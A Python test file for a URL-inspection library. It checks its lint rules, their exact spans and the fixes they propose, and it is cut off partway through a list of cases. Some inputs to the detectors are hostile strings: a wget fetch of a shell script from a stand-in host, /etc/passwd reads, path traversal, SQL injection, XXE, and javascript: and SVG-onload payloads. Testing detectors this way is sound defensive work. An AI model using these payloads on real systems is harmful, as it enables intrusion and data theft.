"""Every rule fires on its own example, is quiet on the other, and its fix mends what it found."""

import re
from collections import Counter

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tables import rows

from uriinspector.core.finding import Severity
from uriinspector.core.findings import findings, rules, rules_by_code, syntax
from uriinspector.core.findings.rule import Subject
from uriinspector.core.inspector import inspect
from uriinspector.core.schemes import rules as scheme_rules

PIECES = [
    "http", "urn", "file", ":", "//", "/", "?", "#", "@", "[", "]", "::1", "[::1]", "v1.a", "1.2.3.4", "example.com",
    "..", "%2e", "%", "%41", "%FF", "é", " ", "\n", "\\", "&amp;", "=", "80", "x8", "\0", "\u202e", "\ud800", "\ue000",
    "\ufffe", "{", "xn--a", "аррӏе",
]  # fmt: skip
TEXTS = st.one_of(
    st.lists(st.sampled_from(PIECES), max_size=10).map("".join),
    st.text(st.characters(codec=None), max_size=20),
)


def codes(text, base=None):
    return {finding.code for finding in findings(text, base)}


@rows("rule", rules(), lambda rule: rule.code)
def test_rule_fires_and_is_quiet(rule):
    assert rule.code in codes(rule.fires, rule.base)
    assert rule.code not in codes(rule.quiet, rule.base)


@rows("rule", rules(), lambda rule: rule.code)
def test_fix_mends(rule):
    """One fix after another, and the rule has nothing left to say."""
    text = rule.fires
    for _ in range(4):
        fixes = [
            finding.fix for finding in findings(text, rule.base) if finding.code == rule.code and finding.fix
        ]
        if not fixes:
            break
        span, replacement, label = fixes[-1]
        assert label
        text = text[: span.start] + replacement + text[span.end :]
    assert text == rule.fires or rule.code not in codes(text, rule.base)


@pytest.mark.parametrize(
    ("url", "climbs"),
    [("http://h/a//../../b", False), ("http://h//../b", False), ("http://h/a//../../../b", True)],
)
def test_an_empty_segment_is_a_folder_to_climb_out_of(url, climbs):
    assert ("climbs-above-root" in codes(url)) is climbs


@rows("rule", rules_by_code().values(), lambda rule: rule.code)
def test_what_a_rule_says_can_stand_inside_a_sentence(rule):
    """Summaries put it behind "Valid, but"; lists write its first letter large themselves."""
    for finding in findings(rule.fires, getattr(rule, "base", None)):
        if finding.message.endswith("."):
            continue  # it is the sentence of a summary as it stands
        for said in (finding.message, finding.fix.label if finding.fix else ""):
            assert not re.match(r"[A-Z][a-z]* [a-z'{]|[A-Z][a-z]+\b", said), said


def test_codes_are_unique_and_in_kebab_case():
    assert [code for code, count in Counter(rule.code for rule in rules()).items() if count > 1] == []
    assert [rule.code for rule in rules() if not re.fullmatch("[a-z0-9]+(-[a-z0-9]+)*", rule.code)] == []


def test_every_rule_is_in_the_reference():
    assert set(rules_by_code()) == {rule.code for rule in rules()} | {rule.code for rule in scheme_rules()}


@rows("entry", rules_by_code().values(), lambda entry: entry.code)
def test_an_entry_of_the_reference_is_written_for_people(entry):
    for text in (entry.title, entry.explanation):
        assert "{" not in text
        assert "}" not in text
        assert "  " not in text
        assert text[0].isupper() or not text[0].isalpha() or entry.code.startswith("whatwg-")
    assert not entry.title.endswith(".")
    assert entry.explanation.endswith(".")
    assert entry.explanation.rstrip(".") != entry.title


def test_titles_are_unique():
    titles = Counter(entry.title.lower() for entry in rules_by_code().values())
    assert [title for title, count in titles.items() if count > 1] == []


@given(TEXTS)
def test_an_error_of_the_grammar_is_found_exactly_where_there_is_one(text):
    subject = Subject(text)
    errors = [
        rule.code
        for rule in syntax.RULES
        if rule.severity is Severity.ERROR or rule.code in {"array-parameters", "template-gap"}
        for _ in rule.check(subject)
    ]
    assert bool(errors) is not Subject(text).is_valid_iri


@given(TEXTS)
def test_findings_stand_in_the_text_in_order(text):
    found = findings(text)
    order = list(Severity)
    assert [(order.index(one.severity), one.span) for one in found] == sorted(
        (order.index(one.severity), one.span) for one in found
    )
    for finding in found:
        assert 0 <= finding.span.start <= finding.span.end <= len(text)
        assert finding.message
        assert finding.reference
        assert finding.fix is None or 0 <= finding.fix.span.start <= finding.fix.span.end <= len(text)


QUIET = [
    "https://example.com/",
    "https://www.example.org/a/b?x=1&y=2#top",
    "http://münchen.de/",
    "https://пример.рф/",
    "https://例え.jp/",
    "https://παράδειγμα.gr/",
    "https://日本語ひらがなカタカナ.jp/",
    "mailto:joe@example.com",
    "urn:isbn:0451450523",
    "../a/b",
    "#top",
    "",
    "https://[2001:db8::1]/",
    "http://\U0001f441\ufe0f.tk/",
]


@pytest.mark.parametrize("text", QUIET)
def test_ordinary_texts_are_quiet(text):
    assert [found for found in findings(text) if found.severity in {Severity.ERROR, Severity.WARNING}] == []


SPANS = [
    ("http://[1:2:3:4g:5:6:7:8]/", "ipv6-not-an-address", "4g"),
    ("http://[1:2:3:4:5:6:7:8:9]/", "ipv6-not-an-address", "9"),
    ("http://[1::2::3]/", "ipv6-not-an-address", "::"),
    ("http://[::256.1.1.1]/", "ipv6-not-an-address", "256.1.1.1"),
    ("http://[::1", "ip-literal-unclosed", "[::1"),
    ("http://h:80x/", "port-not-digits", "80x"),
    ("http://h/a%2", "malformed-triplet", "%2"),
    ("http://h/a%zz", "malformed-triplet", "%"),
    ("http://u:secret@h/", "password", "secret"),
    ("http://h/?a=1&next=https://evil.example/&b=2", "nested-url", "https://evil.example/"),
    ("http://h/x#a#b", "second-hash", "#"),
    ("nats://u@a:1,b:2/x", "colon-in-host", "a:1,b:2"),
    ("mongodb://a:1,b/x", "colon-in-host", "a:1,b"),
    ("http://a:1,b:2/", "colon-in-host", "a:1,b"),
]


@pytest.mark.parametrize(("text", "code", "spanned"), SPANS)
def test_span_is_exact(text, code, spanned):
    assert [found.span.cut(text) for found in findings(text) if found.code == code] == [spanned]


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("file://C:/x", "empty-port"),  # it is a drive, no host
        ("file://C:/x", "host-not-lowercase"),
        ("<URL:http://h/>", "scheme-not-lowercase"),
        ("view-source:http://h/", "empty-segment"),
        ("blob:https://h/9115d58c-bcda-ff47-86e5-083e9a215304", "empty-segment"),
        ("http://h/https://x.example/", "empty-segment"),
        ("ssh://git@h:22/x", "default-port"),  # no document gives ssh: one
        ("http://h/%E2%80%AEgpj", "mixed-case"),
        ("http://h/%0d%0aSet", "mixed-case"),
        ("modem:+3585551234567;type=v32b?7e1;type=v110", "unexpected-query"),
        ("left-pad@npm:^1.0/x", "scp-style"),
        ("left-pad@workspace:packages/x", "scp-style"),
        ("joe@box:80/b", "scp-style"),
        ("https://h/**", "punctuation-at-end"),
    ],
)
def test_nothing_is_said_beside_the_point(text, code):
    assert code not in codes(text)


def test_an_address_that_is_called_keeps_its_brackets():
    """RFC 3261 25.1 wants them there: to RFC 3986 the link is not valid, and no program refuses it."""
    for text, severities in (
        ("sip:joe@[2001:db8::10]:5060", ["note"]),
        ("iax:joe@[2001:db8::10]:4569/joe?friends", ["note"]),
        ("sip:joe@[x]", ["error", "error"]),
    ):
        found = [each for each in findings(text) if each.code == "bracket-outside-host"]
        assert [each.severity for each in found] == severities
        assert [each.fix is None for each in found] == [severities == ["note"]] * len(found)
    assert not inspect("sip:joe@[2001:db8::10]:5060").valid.uri


@pytest.mark.parametrize(
    "text",
    [
        "jdbc:sqlserver://h\\a;databaseName=My DB",
        "jdbc:mysql://h/a b?c={d}",
        "ed2k://|file|a b.avi|1|00|/",
        "s3://a/b c",
    ],
)
def test_what_a_program_reads_as_it_stands_is_not_encoded(text):
    found = findings(text)
    assert {one.severity for one in found} >= {Severity.ERROR}
    assert [one.fix for one in found if one.fix] == []


def test_a_path_to_a_share_is_mended_as_a_whole():
    found = findings("\\\\server\\share\\a b.txt")
    assert {one.code for one in found if one.fix} == {"windows-share"}


MENDED = [
    ("http://h/%u20ac", "javascript-escape", "http://h/%E2%82%AC"),
    (
        "http://u:p/w?x#y@www.bank.example/z",
        "password-cut-short",
        "http://u:p%2Fw%3Fx%23y@www.bank.example/z",
    ),
    ("git@github.com:a b/c", "scp-style", "ssh://git@github.com/a%20b/c"),
    ("müller@bücher.de", "mail-address", "mailto:m%C3%BCller@b%C3%BCcher.de"),
    ("用户@例え.jp", "mail-address", "mailto:%E7%94%A8%E6%88%B7@%E4%BE%8B%E3%81%88.jp"),
    (
        "Ян <ян@пример.рф>",
        "mail-address",
        "mailto:%D1%8F%D0%BD@%D0%BF%D1%80%D0%B8%D0%BC%D0%B5%D1%80.%D1%80%D1%84",
    ),
    ("a%b&c@example.xn--p1ai", "mail-address", "mailto:a%25b%26c@example.xn--p1ai"),
    ("jane@@example.com", "mail-address", "mailto:jane@example.com"),
    ("joe@box:~/a b", "scp-style", "ssh://joe@box/~/a%20b"),
    ("joe@box:site/a.html", "scp-style", "ssh://joe@box/site/a.html"),
    ("git@[2001:db8::1]:a.git", "scp-style", "ssh://git@[2001:db8::1]/a.git"),
    ("-e git+https://h.example/a.git", "colon-in-first-segment", "git+https://h.example/a.git"),
    ("!abc:h.example", "identifier-alone", "matrix:roomid/abc:h.example"),
    ("git+https://abc:x-oauth-basic@h.example/a.git", "password", "git+https://h.example/a.git"),
    ("[::1]:8080/x", "host-and-port-only", "http://[::1]:8080/x"),
    ("[fe80::1%eth0]:8080/x", "host-and-port-only", "http://[fe80::1]:8080/x"),
    ("example.com:443:443/x", "host-and-port-only", "https://example.com:443/x"),
    ("http://[127.0.0.1]:80/", "ipv6-not-an-address", "http://127.0.0.1:80/"),
    ("data:a/b; base64,YQ", "space-not-allowed", "data:a/b;base64,YQ"),
    ("data:a/b;base64,YWJj ZGVm", "space-not-allowed", "data:a/b;base64,YWJjZGVm"),
    ("data:a/b;base64,YWJj\nZGVm", "control-character", "data:a/b;base64,YWJjZGVm"),
    ("data:a/b,YWJj ZGVm", "space-not-allowed", "data:a/b,YWJj%20ZGVm"),
    ("htttps://h/", "mistyped-scheme", "https://h/"),
    ("https:https://h/", "scheme-twice", "https://h/"),
    ("https://h.example:8443/www.h.example?a=1", "host-in-path", "https://h.example:8443?a=1"),
    ("http://https//h/", "scheme-twice", "https://h/"),
    ("http://h/a).", "punctuation-at-end", "http://h/a"),
    ("http://h/(a).", "punctuation-at-end", "http://h/(a)"),
    ('http://h/a">b</a>', "punctuation-at-end", "http://h/a"),
    ("http://h/a](", "punctuation-at-end", "http://h/a"),
    ("http://h/a)**", "punctuation-at-end", "http://h/a"),
    ("http://h/a”。", "punctuation-at-end", "http://h/a"),
    ("http://h/a]>", "punctuation-at-end", "http://h/a"),
    ("http://www..h.example,/", "no-host-name", "http://www.h.example/"),
    ("http://h/caf%C3%83%C2%A9", "misread-utf-8", "http://h/caf%C3%A9"),
    ("http://h/itâ€™s", "misread-utf-8", "http://h/it’s"),
    ("mailto:a@b.example;%20c@d.example", "mailto-semicolon", "mailto:a@b.example,c@d.example"),
    ("mailto:a@b.example?", "mailto-no-value", "mailto:a@b.example"),
    ("mailto:a@b.example?subject=Tom&Jerry", "mailto-no-value", "mailto:a@b.example?subject=Tom%26Jerry"),
    ("mailto:a@b.example?subject=a&", "mailto-no-value", "mailto:a@b.example?subject=a"),
    ("mailto:a@b.example?subject=a&Body", "mailto-no-value", "mailto:a@b.example?subject=a&Body="),
    ("mailto:a@b.example?subject=&x", "mailto-no-value", "mailto:a@b.example?subject=&x="),
    ("http:\\\\h\\a", "mistyped-separator", "http://h/a"),
    ("C|/x", "windows-path", "file:///C:/x"),
    ("file:///C:\\a b", "windows-path", "file:///C:/a%20b"),
    ("file:\\\\server\\x", "windows-share", "file://server/x"),
    ("\\\\?\\C:\\a b\\c", "windows-path", "file:///C:/a%20b/c"),
    ("\\\\.\\c:\\a", "windows-path", "file:///c:/a"),
    ("\\\\?\\UNC\\server\\share\\a", "windows-share", "file://server/share/a"),
    ("\\\\server@SSL\\DavWWWRoot\\a b", "windows-webdav", "https://server/a%20b"),
    ("\\\\server@SSL\\DavWWWRoot", "windows-webdav", "https://server/"),
    ("\\\\server@ssl@8443\\a", "windows-webdav", "https://server:8443/a"),
    ("\\\\server@8080\\davwwwroot\\a", "windows-webdav", "http://server:8080/a"),
    ("**http://h/a", "colon-in-first-segment", "http://h/a"),
    ("12:30//a", "colon-in-first-segment", "./12:30//a"),
    ("ht}tp://h/a", "colon-in-first-segment", "http://h/a"),
    ("http[://h/a", "colon-in-first-segment", "http://h/a"),
    ("ht%74p://h/a", "colon-in-first-segment", "http://h/a"),
    ("http://2001:db8::1]/", "colon-in-host", "http://[2001:db8::1]/"),
    ("192.168.0.1/x", "host-without-scheme", "http://192.168.0.1/x"),
    ("http://h/?a=&quot;b", "html-escaped", "http://h/?a=%22b"),
    ("http://h/?a=b&quot;", "html-escaped", "http://h/?a=b"),
    ("http://example.com.", "punctuation-at-end", "http://example.com"),
    ("http:///example.com/x", "web-no-host", "http://example.com/x"),
    ("http://:pw@h/", "password", "http://h/"),
    ("http://m\u00fcnchen.de/\u00e9", "iri-not-uri", "http://xn--mnchen-3ya.de/%C3%A9"),  # RFC 3986 3.2.2
    ("file:/x", "file-one-slash", "file:///x"),
    ("http://h:080/", "port-leading-zero", "http://h:80/"),
    ("http://h/a\\ b\\_c", "shell-escaped", "http://h/a%20b_c"),
    ("../A\\_B", "shell-escaped", "../A_B"),
    ("https://doi.org/10.1002/a.CO;2-#", "hash-in-doi", "https://doi.org/10.1002/a.CO;2-%23"),
    ("http://my\u2011h.example/\u2010", "other-hyphen", "http://my-h.example/\u2010"),
    ("http://h/a\u2011b\u2013c", "other-hyphen", "http://h/a-b\u2013c"),
]


@rows(("text", "code", "mended"), MENDED)
def test_fix_is_what_was_meant(text, code, mended):
    span, replacement, _ = next(found.fix for found in findings(text) if found.code == code)
    assert text[: span.start] + replacement + text[span.end :] == mended


WAYS_BACK = [
    ("https%3A%2F%2Fb.example%2Fcb%20", "https%3A%2F%2Fb.example%2Fcb"),
    ("+https%3A%2F%2Fb.example%2Fcb", "https%3A%2F%2Fb.example%2Fcb"),
    ("https%253A%252F%252Fb.example%252Fcb", "https%3A%2F%2Fb.example%2Fcb"),
    ("https%3A%2F%2Fb.example%2Fcb%23%2Fhome", "https%3A%2F%2Fb.example%2Fcb"),
    ("b.example%2Fcb", None),
    ("%2Fcb", None),
    ("localhost:3000%2Fcb", None),
    ("https%3A%2F%2F*.b.example%2Fcb", None),
    ("https://b.example/?a=1&b=2&c=3", "https://b.example/?a=1%26b=2%26c=3"),
]


@rows(("back", "mended"), WAYS_BACK)
def test_a_way_back_that_is_refused(back, mended):
    text = f"https://id.example/auth?client_id=a&redirect_uri={back}&scope=openid"
    (fix,) = (found.fix for found in findings(text) if found.code == "way-back-refused")
    given = fix and text[: fix.span.start] + fix.text + text[fix.span.end :]
    assert given == (mended and text.replace(back, mended))


@pytest.mark.parametrize(
    "back",
    [
        "http%3A%2F%2Flocalhost:3000",
        "https://b.example/?a=1&x-client-sku=msal&prompt=none",
        "https://b.example/cb&vendor=1",
        "https%3A%2F%2Fb.example%2F%3Fa%3D1&vendor=1",
        "com.example.app:/cb",
        "urn:ietf:wg:oauth:2.0:oob",
        "postmessage",
        "{back}",
        "",
        "https%3A%2F%2Fb.example%2F%3Fq%3Da%20b",
    ],
)
def test_a_way_back_that_may_be_accepted(back: str):
    text = f"https://id.example/auth?client_id=a&redirect_uri={back}&scope=openid"
    assert "way-back-refused" not in {found.code for found in findings(text)}


@pytest.mark.parametrize(
    "text",
    [
        "redirect_uri: ${BASE_URL}/callback",
        "docker run -p 8080:80 nginx",
        "bootstrap.servers=a:9092,b:9092",
        "base_url:\thttp://h/",
        '{"a":"b"}',
    ],
)
def test_a_line_of_settings_is_no_relative_path(text: str):
    found = next(found for found in findings(text) if found.code == "colon-in-first-segment")
    assert found.fix is None or found.fix.text != "./"


SAID = [
    *(
        (text, "identifier-alone", False)
        for text in (
            "10.html",
            "10.1000/index.html",
            "10.4.1/a",
            "10.0.0.1/24",
            "1.2.3/",
            "978/3",
            "9783161484101",
            "0306406152",
            "+1",
            "2024-11-28",
            "1700000000000",
            "doi:10.1000/182",
            "f81d4fae-7dec-11d0-a765-00a0c91e6bf6/a",
            "+49-170-1234567.html",
            "2101.00001",
            "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb",
            "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdz",
            "note1.html",
        )
    ),
    ("0-306-40615-2", "identifier-alone", True),
    ("{F81D4FAE-7dec-11d0-a765-00a0c91e6bf6}", "identifier-alone", True),
    ("http://h/?a={f81d4fae-7dec-11d0-a765-00a0c91e6bf6}", "template-gap", False),
    ("http://h/?a={f81d4fae-7dec}", "template-gap", True),
    ("jdbc:sqlserver://h;password={a;b}", "template-gap", False),
    ("jdbc:sqlserver://h;password={your_password}", "template-gap", True),
    ("http://h/?a=%7B%7B%20id%20%7D%7D", "left-gap", True),
    ("http://h/%24%7Bid%7D/a", "left-gap", True),
    ("http://h/?a=%7bid%7d#b", "left-gap", True),
    ("http://h/?a=%5Bobject%20HTMLElement%5D", "left-gap", True),
    ("http://h/?a=undefined&b", "left-gap", True),
    ("http://h/a/undefined", "left-gap", False),  # what a page is about
    ("http://h/?a=undefined-behaviour", "left-gap", False),
    ("http://h/?a=%7Bf81d4fae-7dec-11d0-a765-00a0c91e6bf6%7D", "left-gap", False),
    ("http://h/?a=%7B%22id%22%3A1%7D", "left-gap", False),
    ("http://h/?a=b%7Bid%7D", "left-gap", False),
    ("http://h/a/..;/b", "attack", True),
    ("http://h/a/..%5c..%5cwindows%5cwin.ini", "attack", True),
    ("http://h/?a=cat%20/etc/passwd", "attack", True),
    ("http://h/wiki/cat/etc/passwd", "attack", False),
    ("http://h/a?cd+/tmp;wget+http://b.example/c.sh", "attack", True),
    ("http://h/?next=/%09/b.example", "nested-url", True),
    ("http://h/?next=/%09b.example", "nested-url", False),
    ("http://h/a/..;", "attack", False),
    ("http://h/~2Fa~2Fb", "owner-in-path", False),
    ("jdbc:mysql://u:pw@h/a", "secret-in-link", True),
    ("view-source:https://u:pw@h/", "secret-in-link", True),
    ("jdbc:mysql://h/a:b@c", "secret-in-link", False),
    ("https://u:pw@h/", "secret-in-link", False),  # `password` is about it
    ("http://h/a%20", "punctuation-at-end", True),
    ("http://h/?d=2026-11-28T09%3A00%3A00.5+0100&a", "plus-in-value", True),
    ("http://h/?m=jane+a@example.com", "plus-in-value", True),
    ("http://h/?q=a+b", "plus-in-value", False),
    ("http://h/?q=1+1", "plus-in-value", False),
    ("http://h/?q=rock+roll@home", "plus-in-value", False),
    ("mailto:a@example.com?subject=+491701234567", "plus-in-value", False),
    ("http://h/a%22%3E", "punctuation-at-end", True),
    ("http://h/a.txt#line=10,", "punctuation-at-end", False),
    ("http://h/a#b,", "punctuation-at-end", True),
    ("http://h/%22a%22", "punctuation-at-end", False),
    ("http://h/a?b%20", "punctuation-at-end", False),
    ("http://h/a%C3%A9", "punctuation-at-end", False),
    ("http://h/b%2520", "punctuation-at-end", False),
    ("http://h/ah/a", "scheme-twice", False),
    ("http://h:", "scp-style", False),
    ("a.example:b.git", "scp-style", True),
    ("a.example:80/b.git", "scp-style", False),
    ("http://h:25/", "port-of-other-scheme", True),  # RFC 3986 7.2
    ("https://h:10080/", "port-of-other-scheme", True),  # Fetch 2.9, as all of these
    ("http://h:6697/", "port-of-other-scheme", True),
    ("wss://h:6000/", "port-of-other-scheme", True),
    ("http://h:04190/", "port-of-other-scheme", True),
    ("http://h:0/", "port-of-other-scheme", True),
    ("http://h:00/", "port-of-other-scheme", True),
    ("http://h:/", "port-of-other-scheme", False),
    ("ftp://h:990/", "port-of-other-scheme", False),
    ("http://h:6670/", "port-of-other-scheme", False),
    ("http://h:8025/", "port-of-other-scheme", False),
    ("ssh://h:22/", "port-of-other-scheme", False),
    ("mailto:a@b.example?subject=a%0D%0ABcc:c@d.example", "encoded-line-break", True),
    ("mailto:a@b.example?Body=a%0D%0Ab", "encoded-line-break", False),  # RFC 6068 5
    ("data:,a%0Ab", "encoded-line-break", False),
    ("http://h/%ud800", "javascript-escape", False),
    ("http://h/?epik=1", "tracking-parameter", True),
    ("http://h/?matomo_kwd=1", "tracking-parameter", True),
    ("http://h/a/..%2F..%2Fetc", "encoded-dot-segment", True),
    ("http://h/a%2Fb", "encoded-dot-segment", False),
    ("http://h/a%5C..%5Cb", "encoded-dot-segment", True),
    ("http://h/shop.php/x", "technology-in-path", True),
    ("http://h/?u=data:text/html,x", "nested-url", True),
    ("WIFI:T:WPA;S:n;P:p;;", "punctuation-at-end", False),
    ("ftp://anonymous@h/", "user-information", False),
    ("http://h/photo.JPG%20%20.scr?a", "double-ending", True),
    ("http://h/jquery.csv.js", "double-ending", False),
    ("http://h/?f=a.pdf.exe", "double-ending", False),
    ("http://h/a&b=1&c=2", "misplaced-pairs", True),
    ("http://h/?q=what?b=1&c=2", "misplaced-pairs", False),
    ("http://h/?u=https://x.example/?b=2", "misplaced-pairs", False),
    ("http://h/a&b", "misplaced-pairs", False),
    ("http://h/a&b=c/d", "misplaced-pairs", False),
    ("192.168.0.0/24", "host-without-scheme", False),
    ("192.168.0.1/admin", "host-without-scheme", True),
    ("ed2k://|file|Name|1|ABCDEF|/", "host-not-lowercase", False),
    ("tel:*%2306%23", "tel-service-code", True),
    ("tel:#31#+4930123456", "tel-service-code", False),
    ("tel:*72;phone-context=+1", "tel-service-code", False),
    ("tel:+44(0)20-7946-0000", "tel-trunk-zero", True),
    ("tel:+39-(0)6-123456", "tel-trunk-zero", False),  # there the zero is dialled
    ("tel:+1(020)7946", "tel-trunk-zero", False),
    ("tel:+0123456", "tel-no-country", True),
    ("tel:0123456;phone-context=+49", "tel-no-country", False),
    ("sms:+491701234567;body=x", "sms-body-after-ampersand", True),
    ("sms:+491701234567;ext=1", "sms-body-after-ampersand", False),
    ("sqlite:///:memory:", "punctuation-at-end", False),
    ("http://h/?t=eyJhbGciOiJub25lIn0.eyJhIjoxfQ.", "punctuation-at-end", False),
    ("mailto:a/../b@h.example", "dot-segments", False),
    ("jdbc:sqlite:a/../b.db", "dot-segments", False),
    ("\x01javascript:alert(1)", "hidden-script-scheme", True),
    ("java\r\nscript:alert(1)", "hidden-script-scheme", True),
    ("da\tta:text/html,<b>", "hidden-script-scheme", True),
    ("da\tta:text/plain,a", "hidden-script-scheme", False),
    ("data:\n  text/html", "hidden-script-scheme", False),
    ("javascript:a b", "hidden-script-scheme", False),
    ("ht\ttps://h/", "hidden-script-scheme", False),
    ("npipe:////./pipe/a", "dot-segments", False),
    ("npipe:////./pipe/a", "empty-segment", False),
    ("sqlite:////srv/a.db", "empty-segment", False),
    ("sqlite:////srv//a.db", "empty-segment", True),
    ("foo:/a/../b", "dot-segments", True),
    ("redis://:secret@h/", "user-information", False),
    ("facetime://joe@h.example", "user-information", False),  # who is called
    ("mailto://joe@h.example", "user-information", False),
    ("tel:*100#;phone-context=h.example", "empty-fragment", False),
    ("tel:*100#", "empty-fragment", False),  # a part of the number
    ("foo:a#", "empty-fragment", True),
    ("http://h/?id=1%2527%2520OR%25201%253D1", "attack", True),
    (
        "http://h/?x=%3C!DOCTYPE%20a%20%5B%3C!ENTITY%20b%20SYSTEM%20%22file:///etc/passwd%22%3E%5D%3E",
        "attack",
        True,
    ),
    ("http://h/?x=%3C!ENTITY%20b%20%22c%22%3E", "attack", False),
    ("http://h/?name=O%27Hara%20or%20select", "attack", False),
    ("http://h/?u=%5C%5Cevil.example", "nested-url", True),
    ("magnet:?xt=urn:btih:a&tr=http%3A%2F%2Ft%2F", "nested-url", False),
    ("http://metadata.google.internal/", "special-name", True),
    ("http://localhost.example/", "special-name", False),
    ("http://shop.test/", "special-name", True),
    ("http://shop.test.example/", "special-name", False),
    ("http://example.com:8080?to=joe@example.com", "password-cut-short", False),
    ("http://example.com/?a=1&to=joe@example.com", "password-cut-short", False),
    ("https://h/htp://x", "mistyped-scheme", False),
    ("shttp://h/", "mistyped-scheme", False),  # registered
    ("ss://YWVzLTI1Ni1nY206cGFzcw@h.example:8388#tea", "mistyped-scheme", False),  # a proxy
    ("http://h/?u=http%253A%252F%252Fevil.example%252F", "nested-url", True),  # encoded twice
    ("http://h/?u=http%3A%2F%2Fevil.example%2F", "nested-url", True),
    ("http://h/?u=%25255C%25255Cevil.example", "nested-url", False),  # three times: nobody decodes as often
    ("data:,a%2Fb", "encoded-slash", False),  # no segments
    ("mailto:a%2Fb@example.com", "encoded-slash", False),
    ("a%2Fb", "encoded-slash", True),
    ("http://h/?id=4711", "query-identity", True),
    ("http://h/?id=about-us", "query-identity", False),
    ("http://h/?id=", "query-identity", False),
    ("https://github.com/o/r/blob/main/setup.py", "technology-in-path", False),
    ("https://raw.githubusercontent.com/o/r/main/setup.py", "technology-in-path", False),
    ("https://git.example.org/o/r/src/branch/main/setup.py", "technology-in-path", False),
    ("https://example.org/setup.py", "technology-in-path", True),
    ("http://h/~name.html", "owner-in-path", False),
    ("http://h/~first.last/", "owner-in-path", True),
    ("http://h/~joe", "owner-in-path", True),
    ("http://h/c/3f1a2b1c9d", "look-alike-one", False),
    ("http://h/c/3f0a2b0c9d", "look-alike-zero", False),
    ("http://h/3F1A2B1C-0a0b-4c1d-8e1f-000102030405", "look-alike-one", False),
    ("http://h/a1b", "look-alike-one", True),
    ("http://h/caf%E9", "octets-not-utf-8", True),
    ("data:,%FF", "octets-not-utf-8", False),
    ("magnet:?xt=urn:btih:%FF", "octets-not-utf-8", False),
    ("http://h/%F0%9F%98%80", "octets-not-utf-8", False),
    ("https://%/", "whatwg-domain-percent-encoded", False),
    ("https://a%zz/", "whatwg-domain-percent-encoded", False),
    ("https://a%2D/", "whatwg-domain-percent-encoded", True),
    ("data:text/html;charset=x,", "punctuation-at-end", False),
    ("javascript:a()", "punctuation-at-end", False),
    ('http://h/?a="b"', "punctuation-at-end", False),
    ("http://h/?a[]=1&b[]", "punctuation-at-end", False),
    ("http://h/a{b}", "punctuation-at-end", False),
    ("http://h/a/..", "punctuation-at-end", False),
    ("http://h/a..", "punctuation-at-end", True),
    ("http://h/a](", "punctuation-at-end", True),
    ("http://h/pa…", "punctuation-at-end", True),
    ("http://h.example./", "no-host-name", False),
    ("http://*.h.example/", "no-host-name", False),
    ("http://_a.-b.example/", "no-host-name", False),
    ("foo://a,b/", "no-host-name", False),
    ("http://h/S%C3%83O", "misread-utf-8", False),
    ("C:\\a", "scheme-not-lowercase", False),
    ("C:/a", "scheme-not-lowercase", False),
    ("C:/a", "scheme-not-registered", False),
    ("WIFI:S:a;;", "scheme-not-lowercase", False),
    ("http://192.0.2.1/cgi-bin/luci/;stok=5d41402a/admin", "session-in-path", True),
    ("MT:Y.K9042C00KA0648G00", "scheme-not-lowercase", False),
    ("X-HM://0023ISYWY1ABC", "host-not-lowercase", False),
    ("https://api.$DOMAIN/x", "host-not-lowercase", False),
    ("MECARD:N:Joe;;", "scheme-not-lowercase", False),
    ("SMSTO:+15551234567:Hi", "scheme-not-lowercase", False),
    ("MAILTO:a@b.example", "scheme-not-lowercase", True),
    ("DE89 3704 0044 0532 0130 00", "identifier-alone", True),
    ("DE89 3704 0044 0532 0130 01", "identifier-alone", True),
    ("DE89 3704 0044 0532 0130 0", "identifier-alone", False),
    ("5493001KJTIIGC8Y1R12", "identifier-alone", True),
    ("5493001KJTIIGC8Y1R13", "identifier-alone", False),
    ("AKIAIOSFODNN7EXAMP41", "identifier-alone", False),
    ("org.apache.commons:commons-lang3:jar:sources:3.12.0", "identifier-alone", True),
    ("com.example:80:443", "identifier-alone", False),
    ("src.app:main:x", "identifier-alone", False),
    ("data:image/svg+xml,%3Csvg/%3E", "script-scheme", False),
    ("data:image/svg+xml;base64,PHN2Zy8+", "script-scheme", False),
    ("data:image/svg+xml,%3Csvg%20onload=a()%3E", "script-scheme", True),
    ("data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+", "script-scheme", True),
    ("data:application/xhtml+xml,a", "script-scheme", True),
    ("BEGIN:VCARD", "scheme-not-lowercase", False),
    ("MyApp://a", "scheme-not-lowercase", True),
    ("C:\\a", "scheme-not-registered", False),
    ("file://C:\\a", "host-not-lowercase", False),
    ("mailto:a@b.example?", "empty-query", False),
    ("mailto:a@b.example;", "mailto-semicolon", True),
    ("urn:example:%7E", "needless-triplet", False),  # RFC 8141 3.1
    ("https://127.0.0.1/", "disguised-address", False),
    ("data://hxxp[;", "defanged", False),
    ("example(dot)com", "defanged", True),
    ("https://example(dot)com/a", "defanged", True),
    ("user (at) example (dot) com", "defanged", True),
    ("joe (at) example.com", "defanged", True),
    ("example{.}com", "defanged", True),
    ("https://en.wikipedia.org/wiki/Polka_(dot)_pattern", "defanged", False),
    ("https://h.example/f(at)b", "defanged", False),
    ("/docs/f(at)b", "defanged", False),
    ("meet me (at) home", "defanged", False),
    ("https://h.example/{.}x", "defanged", False),
    ("main.py:12", "host-and-port-only", False),
    ("http://\u0645.\u0625/a", "parts-in-reverse-order", False),  # the labels of one name
    ("http://h/\u0645/12/\u0625", "parts-in-reverse-order", True),
    ("http://\u0645/a?\u0625=1#\u0645", "parts-in-reverse-order", True),
    ("http://h/\u0645/?a=\u0625", "parts-in-reverse-order", False),
    ("main.py:443", "host-and-port-only", True),
    ("https://payp\u00e0l.com/", "look-alike-brand", True),
    ("https://\u00e4pple.example/", "look-alike-brand", False),
    ("https://wikip\u00e9dia.example/", "look-alike-brand", False),
    ("https://herm\u00e8s.example/", "look-alike-brand", False),
    ("jdbc:h2:mem:test;INIT=RUNSCRIPT%20FROM%20'a.sql'", "driver-runs-code", True),
    ("jdbc:mysql://h/a?allowLoadLocalInfile=false", "driver-runs-code", False),
    ("jdbc:postgresql://h/a?socketFactory=x.Y", "driver-runs-code", True),
    ("app://h/?init=1", "driver-runs-code", False),
    ("https://h/ext::sh", "git-runs-command", False),
    ("git::https://h/a.git", "git-not-secret", False),
    ("git+ssh://h/a.git", "git-not-secret", False),
    ("jdbc:sqlserver://h:1433;encrypt=false;database=a", "open-connection", True),
